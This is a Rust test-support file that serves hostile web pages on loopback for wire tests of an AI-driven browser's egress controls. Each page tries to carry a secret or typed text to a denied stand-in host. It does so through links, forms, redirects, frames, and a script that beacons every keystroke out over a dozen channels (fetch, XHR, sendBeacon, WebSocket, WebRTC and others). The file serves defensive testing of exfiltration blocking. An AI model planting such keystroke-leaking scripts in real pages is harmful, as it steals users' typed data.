//! Hostile pages for the wire tests, served on 127.0.0.1: each tries to get a request (with a
//! secret the model typed, where there is one) to the denied host ([`Sink`] on 127.0.0.2), in
//! one way a page or a model's action can.
//!
//! | path | how it reaches the denied host |
//! | --- | --- |
//! | `/link` | a link the model clicks |
//! | `/link-https` | a link to `https:` on the denied host (a tunnel) |
//! | `/form-get`, `/form-post` | a form the model fills and submits (click, `submit_target`, Enter) |
//! | `/assign` | a button whose handler sets `location` |
//! | `/open` | a button whose handler calls `window.open` |
//! | `/blank` | a `target=_blank` link |
//! | `/download` | an `<a download>` link |
//! | `/ping` | an `<a ping>` link to an allowed page |
//! | `/refresh` | a meta refresh |
//! | `/redirect302`, `/redirect307` | an allowed URL that redirects to the denied host |
//! | `/beacons` | (`?auto`: also once on load; `?nortc`: no WebRTC) a search box whose every keystroke is sent by fetch, XHR, sendBeacon, an image, a script, a stylesheet, a prefetch, a font, EventSource, WebSocket, a worker's fetch and WebRTC (STUN over UDP) |
//! | `/frames` | an `<iframe>`, an `<object>` and an `<embed>` of the denied host |
//! | `/landed` | an ordinary allowed page |
//!
//! [`Sink`]: crate::support::sink::Sink

use crate::support::server::{Reply, Site};
use crate::support::sink::Sink;

/// The secret a hostile page tries to send out.
pub(crate) const SECRET: &str = "SECRET42";

/// Serve the pages, aimed at `sink`.
pub(crate) fn start(sink: &Sink) -> Site {
    let denied = sink.origin();
    let ws = format!("ws://127.0.0.2:{}", sink.tcp_port());
    let stun = format!("stun:127.0.0.2:{}", sink.udp_port());
    Site::serve(move |ask| respond(ask.path, &denied, &ws, &stun))
}

fn page(title: &str, body: &str) -> Reply {
    Reply::html(
        200,
        format!(
            "<!doctype html><html lang=en><head><meta charset=utf-8><title>{title}</title></head><body><h1>{title}</h1>{body}</body></html>"
        ),
    )
}

fn respond(path: &str, d: &str, ws: &str, stun: &str) -> Reply {
    match path {
        "/link" => page("Link", &format!("<a id=go href=\"{d}/link?v={SECRET}\">Go away</a>")),
        "/link-https" => {
            let secure = d.replacen("http://", "https://", 1);
            page("Secure link", &format!("<a href=\"{secure}/secure?v={SECRET}\">Go secure</a>"))
        }
        "/form-get" | "/form-post" => {
            let method = if path == "/form-get" { "get" } else { "post" };
            page(
                "Form",
                &format!(
                    "<form action=\"{d}{path}\" method={method}><label>Query <input name=q></label> <button>Search</button></form>"
                ),
            )
        }
        "/assign" => {
            page("Assign", &format!("<button onclick=\"location.href='{d}/assigned'\">Assign</button>"))
        }
        "/open" => page("Open", &format!("<button onclick=\"window.open('{d}/opened')\">Open</button>")),
        "/blank" => page("Blank", &format!("<a href=\"{d}/blank\" target=_blank>Blank</a>")),
        "/download" => page("Download", &format!("<a href=\"{d}/file.bin\" download>Download</a>")),
        "/ping" => page("Ping", &format!("<a href=\"/landed\" ping=\"{d}/ping\">Ping</a>")),
        "/refresh" => Reply::html(
            200,
            format!(
                "<!doctype html><title>Refresh</title><meta http-equiv=refresh content=\"0;url={d}/refresh\"><h1>Refresh</h1>"
            ),
        ),
        "/redirect302" => Reply::redirect(302, format!("{d}/redirected")),
        "/redirect307" => Reply::redirect(307, format!("{d}/redirected")),
        "/beacons" => page("Beacons", &beacons(d, ws, stun)),
        "/worker.js" => Reply {
            content_type: "text/javascript",
            ..Reply::html(
                200,
                format!("onmessage = (e) => {{ fetch('{d}/from-worker?v=' + e.data).catch(() => {{}}); }};"),
            )
        },
        "/frames" => page(
            "Frames",
            &format!(
                "<iframe src=\"{d}/iframe\"></iframe><object data=\"{d}/object\" type=text/html></object><embed src=\"{d}/embed\" type=text/html>"
            ),
        ),
        "/landed" => page("Landed", "<p>An allowed page.</p>"),
        _ => Reply::html(404, "not found"),
    }
}

/// A search box that sends each keystroke to the denied host in every way a page can.
fn beacons(d: &str, ws: &str, stun: &str) -> String {
    format!(
        r#"<label>Search <input id=q></label><p id=sent>0</p>
<script>
const params = new URLSearchParams(location.search);
const worker = new Worker('/worker.js');
function send(v) {{
  const q = encodeURIComponent(v);
  fetch('{d}/fetch?v=' + q, {{mode: 'no-cors'}}).catch(() => {{}});
  const x = new XMLHttpRequest(); x.open('GET', '{d}/xhr?v=' + q); x.onerror = () => {{}}; x.send();
  navigator.sendBeacon('{d}/beacon', v);
  new Image().src = '{d}/img?v=' + q;
  const s = document.createElement('script'); s.src = '{d}/script.js?v=' + q; s.onerror = () => {{}}; document.head.appendChild(s);
  const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{d}/style.css?v=' + q; document.head.appendChild(l);
  const p = document.createElement('link'); p.rel = 'prefetch'; p.href = '{d}/prefetch?v=' + q; document.head.appendChild(p);
  new FontFace('f' + q.length, 'url({d}/font.woff?v=' + q + ')').load().catch(() => {{}});
  try {{ const e = new EventSource('{d}/events?v=' + q); setTimeout(() => e.close(), 3000); }} catch (e) {{}}
  try {{ const w = new WebSocket('{ws}/socket?v=' + q); w.onerror = () => {{}}; }} catch (e) {{}}
  worker.postMessage(q);
  if (!params.has('nortc')) try {{
    const pc = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}});
    pc.createDataChannel('x');
    pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {{}});
    setTimeout(() => pc.close(), 3000);
  }} catch (e) {{}}
  document.getElementById('sent').textContent = String(Number(document.getElementById('sent').textContent) + 1);
}}
document.getElementById('q').addEventListener('input', (e) => send(e.target.value));
if (params.has('auto')) send('auto');
</script>"#
    )
}
